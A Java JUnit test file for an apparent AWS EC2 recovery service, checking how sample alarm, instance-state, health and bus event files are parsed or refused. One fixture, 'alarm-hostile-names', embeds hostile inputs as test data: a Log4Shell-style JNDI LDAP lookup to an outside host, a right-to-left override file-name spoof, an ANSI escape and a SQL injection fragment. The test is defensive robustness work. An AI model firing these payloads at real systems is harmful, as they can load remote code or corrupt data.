package recovery.shared.signal;

import static java.util.Map.entry;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static recovery.shared.signal.ExpectedAlarm.alarm;
import static recovery.shared.signal.ExpectedAlarm.host;

import java.io.IOException;
import java.nio.file.Files;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import recovery.shared.alarm.Alarm;
import recovery.shared.alarm.Metric;
import recovery.shared.bus.BusEvent;
import recovery.shared.ec2.InstanceId;
import recovery.shared.ec2.InstanceState;
import recovery.shared.json.BadInput;

/** Each file of {@code events} and, to the last field, what it is read as. */
class EventFilesTest {
    private static final InstanceId WEB_1 = new InstanceId("i-0123456789abcdef0");
    private static final Instant FIVE_PAST_TEN = Instant.parse("2026-03-01T10:05:00Z");
    private static final Metric HOSTS = new Metric("AWS/EC2", "StatusCheckFailed_System", Map.of());
    private static final String RETIREMENT = "AWS_EC2_PERSISTENT_INSTANCE_RETIREMENT_SCHEDULED";
    private static final String RECOVERY = "3b1f7c52-6a0e-4d59-9b1d-8c2f4e6a7d10";
    private static final Map<String, String> TARGET_GROUP = Map.of("TargetGroup", "targetgroup/web/943f017f100becff");

    /** What users of the service see at its load balancer. */
    private static final Metric ERRORS = new Metric(
            "AWS/ApplicationELB",
            "HTTPCode_Target_5XX_Count",
            Map.of("TargetGroup", "targetgroup/web/943f017f100becff", "LoadBalancer", "app/web/50dc6c495c0c9188"));

    private static final Map<String, Incoming> ALARMS = Map.ofEntries(
            entry("alarm-host-broken", alarm("recovery-web-system").observed()),
            entry("alarm-host-broken-eventbridge", alarm("recovery-web-system").observed()),
            entry("alarm-set-by-hand", alarm("recovery-web-system").observed()),
            entry(
                    "alarm-back-to-ok",
                    alarm("recovery-web-system")
                            .took(Alarm.State.OK)
                            .at("2026-03-01T10:05:00.456Z")
                            .observed()),
            entry(
                    "alarm-insufficient-data",
                    alarm("recovery-web-system")
                            .took(Alarm.State.INSUFFICIENT_DATA)
                            .observed()),
            entry(
                    "alarm-an-hour-late",
                    alarm("recovery-web-system").at("2026-03-01T09:05:00.123Z").observed()),
            entry("alarm-muted", alarm("recovery-web-system").heldBack().observed()),
            entry(
                    "alarm-untagged-instance",
                    alarm("recovery-web-stranger")
                            .reads(host("i-0aaaabbbbccccdddd"))
                            .observed()),
            entry(
                    "alarm-without-instance",
                    alarm("recovery-web-http-errors").reads(ERRORS).observed()),
            entry(
                    "alarm-on-service",
                    alarm("recovery-users-see-errors").reads(ERRORS).observed()),
            entry(
                    "alarm-on-service-eventbridge",
                    alarm("recovery-users-see-errors").reads(ERRORS).observed()),
            entry(
                    "alarm-on-application",
                    alarm("recovery-users-of-web-1")
                            .reads(new Metric("Web", "Errors", Map.of(Metric.INSTANCE, WEB_1.value())))
                            .observed()),
            entry(
                    "alarm-with-two-instances",
                    alarm("recovery-web-pair")
                            .reads(
                                    failed("StatusCheckFailed", "i-0123456789abcdef0"),
                                    failed("StatusCheckFailed", "i-0fedcba9876543210"))
                            .observed()),
            entry(
                    "alarm-metric-math",
                    alarm("recovery-web-checks")
                            .reads(
                                    failed("StatusCheckFailed_Instance", "i-0123456789abcdef0"),
                                    new Metric("AWS/ApplicationELB", "RequestCountPerTarget", TARGET_GROUP))
                            .observed()),
            entry(
                    "alarm-composite",
                    alarm("recovery-web-any")
                            .reads()
                            .triggeredBy("recovery-web-system")
                            .observed()),
            entry(
                    "alarm-suppressed",
                    alarm("recovery-web-any")
                            .reads()
                            .triggeredBy("recovery-web-system")
                            .heldBack()
                            .observed()),
            entry(
                    "alarm-suppression-ended",
                    alarm("recovery-web-any")
                            .reads()
                            .triggeredBy("recovery-web-system")
                            .observed()),
            entry(
                    "alarm-contributor",
                    alarm("recovery-web-fleet").reads(HOSTS).forSeriesOf(WEB_1).observed()),
            entry(
                    "alarm-contributor-action",
                    alarm("recovery-web-fleet").reads(HOSTS).forSeriesOf(WEB_1).observed()),
            entry(
                    "alarm-over-many-series",
                    alarm("recovery-web-fleet").reads(HOSTS).observed()),
            entry("alarm-log-query", alarm("recovery-web-kernel-panics").reads().observed()),
            entry(
                    "alarm-hostile-names",
                    alarm("recovery-web-${jndi:ldap://198.51.100.7/a}-\u202egnp.exe")
                            .reads(host("i-0123456789abcdef0\n\u001b[31m; DROP TABLE"))
                            .observed()));

    private static final Map<String, Incoming> OTHERS = Map.ofEntries(
            entry("alarm-from-another-account", elsewhere("account", "444455556666", "123456789012")),
            entry("alarm-from-another-region", elsewhere("Region", "eu-west-1", "us-east-1")),
            entry(
                    "alarm-configuration-changed",
                    new Incoming.Irrelevant("an alarm's configuration changed, not its state")),
            entry("instance-stopped", took(InstanceState.STOPPED)),
            entry("instance-running", took(InstanceState.RUNNING)),
            entry("instance-terminated", took(InstanceState.TERMINATED)),
            entry(
                    "spot-interruption-warning",
                    new Incoming.Irrelevant(
                            "nothing here handles events of type \"EC2 Spot Instance Interruption Warning\" from \"aws.ec2\"")),
            entry("health-retirement", announced(RETIREMENT, true, WEB_1)),
            entry("health-retirement-closed", announced(RETIREMENT, false, WEB_1)),
            entry("health-backup-copy", announced(RETIREMENT, true, WEB_1)),
            entry("health-in-another-region", elsewhere("Region", "eu-west-1", "us-east-1")),
            entry("health-issue-of-the-service", announced("AWS_EC2_OPERATIONAL_ISSUE", true)),
            entry(
                    "restart-requested",
                    nudge(BusEvent.Kind.RESTART_REQUESTED, Map.of("recovery", RECOVERY, "target", WEB_1.value()))),
            entry(
                    "failover-requested",
                    nudge(BusEvent.Kind.FAILOVER_REQUESTED, Map.of("recovery", RECOVERY, "target", WEB_1.value()))),
            entry(
                    "request-made",
                    nudge(
                            BusEvent.Kind.REQUEST_MADE,
                            Map.of("request", "c7a0e5b4-2f6d-4c1e-8a93-5d0b7f1e6c28", "recovery", RECOVERY))),
            entry("tick", new Incoming.Tick(FIVE_PAST_TEN)));

    private static final String AT_THE_WRONG_DOOR =
            "field request: expected at the operator's function, which takes requests, found at another";

    private static final Map<String, String> REFUSED = Map.of(
            "alarm-through-sns",
                    "the document: expected the alarm itself, found a message of SNS or SQS; make the function the alarm's action, or use the EventBridge rule",
            "ask-status", AT_THE_WRONG_DOOR,
            "ask-why", AT_THE_WRONG_DOOR,
            "ask-set-mode", AT_THE_WRONG_DOOR,
            "ask-acknowledge", AT_THE_WRONG_DOOR,
            "ask-release-brake", AT_THE_WRONG_DOOR,
            "ask-cancel", AT_THE_WRONG_DOOR,
            "ask-preview", AT_THE_WRONG_DOOR,
            "ask-failback", AT_THE_WRONG_DOOR);

    static Stream<String> alarms() {
        return ALARMS.keySet().stream().sorted();
    }

    static Stream<String> others() {
        return OTHERS.keySet().stream().sorted();
    }

    static Stream<String> refused() {
        return REFUSED.keySet().stream().sorted();
    }

    @Test
    void everyFileIsNamedHereAndExists() {
        var named = new TreeSet<>(ALARMS.keySet());
        named.addAll(OTHERS.keySet());
        named.addAll(REFUSED.keySet());
        assertThat(EventFiles.names()).containsExactlyElementsOf(named);
    }

    @Test
    void everyFileHasItsRowInTheReadme() throws IOException {
        List<String> rows = Files.readAllLines(EventFiles.FOLDER.resolve("README.md")).stream()
                .filter(line -> line.startsWith("| `"))
                .map(line -> line.substring("| `".length(), line.indexOf(".json`")))
                .toList();
        assertThat(rows).containsExactlyInAnyOrderElementsOf(EventFiles.names());
    }

    @ParameterizedTest
    @MethodSource("alarms")
    void anAlarmIsReadToTheLastField(String file) {
        assertThat(EventFiles.read(file)).isEqualTo(ALARMS.get(file));
    }

    @ParameterizedTest
    @MethodSource("others")
    void anyOtherEventIsReadToTheLastField(String file) {
        assertThat(EventFiles.read(file)).isEqualTo(OTHERS.get(file));
    }

    @ParameterizedTest
    @MethodSource("refused")
    void whatBelongsElsewhereIsRefusedWithASentence(String file) {
        assertThatThrownBy(() -> EventFiles.read(file))
                .isInstanceOf(BadInput.class)
                .hasMessage(REFUSED.get(file));
    }

    private static Metric failed(String check, String instance) {
        return new Metric("AWS/EC2", check, Map.of(Metric.INSTANCE, instance));
    }

    private static Incoming took(InstanceState state) {
        return new Incoming.Observed(new Signal.InstanceChanged(WEB_1, state, FIVE_PAST_TEN, Signal.Origin.DELIVERED));
    }

    private static Incoming announced(String code, boolean open, InstanceId... instances) {
        return new Incoming.Observed(
                new Signal.HealthAnnounced(code, open, List.of(instances), FIVE_PAST_TEN, Signal.Origin.DELIVERED));
    }

    private static Incoming nudge(BusEvent.Kind kind, Map<String, Object> detail) {
        return new Incoming.Nudge(kind, detail);
    }

    private static Incoming elsewhere(String what, String theirs, String ours) {
        return new Incoming.Irrelevant("it belongs to the " + what + " \"" + theirs + "\", and this is " + ours);
    }
}
